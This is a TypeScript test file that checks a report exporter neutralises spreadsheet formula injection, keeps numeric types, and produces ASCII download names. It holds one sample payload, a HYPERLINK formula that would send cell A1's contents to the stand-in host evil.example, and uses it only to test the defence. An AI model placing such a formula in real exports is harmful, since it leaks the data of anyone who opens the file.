import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { writeCsv } from '../../../../../src/lib/server/reports/csv-writer.ts';
import { writeXlsx, xlsxResponse } from '../../../../../src/lib/server/reports/xlsx-writer.ts';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Ana")';

async function readXlsx(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes.buffer as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

describe('writeXlsx', () => {
  test('neutralises a formula-like name exactly as the CSV writer does, and stores it as text, not a formula', async () => {
    const rows = [
      ['nombre', 'calificacion'],
      [FORMULA_NAME, 85.5],
      ['-5', -5],
      ['José Ñúñez Gutiérrez', null],
    ];
    const sheet = await readXlsx(await writeXlsx('Inscripciones', rows));
    const cell = sheet.getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(`'${FORMULA_NAME}`);
    expect(writeCsv(rows)).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")"`);
    expect(sheet.getCell('A3').value).toBe("'-5");
    expect(sheet.getCell('A4').value).toBe('José Ñúñez Gutiérrez');
  });

  test('keeps numbers as numbers and leaves null cells empty', async () => {
    const sheet = await readXlsx(
      await writeXlsx('Hoja', [
        ['a', 'b'],
        [85.5, -5],
        [null, 0],
      ]),
    );
    expect(sheet.getCell('A2').type).toBe(ExcelJS.ValueType.Number);
    expect([sheet.getCell('A2').value, sheet.getCell('B2').value, sheet.getCell('B3').value]).toEqual([85.5, -5, 0]);
    expect(sheet.getCell('A3').type).toBe(ExcelJS.ValueType.Null);
  });

  test('answers a download with an ASCII file name and the spreadsheet type', async () => {
    const response = await xlsxResponse('inscripciones-Generación 2026-2 · Centro-Bajío', 'Inscripciones', [['a']]);
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="inscripciones-generacion-2026-2-centro-bajio.xlsx"');
    expect(response.headers.get('Content-Type')).toContain('spreadsheetml');
  });
});
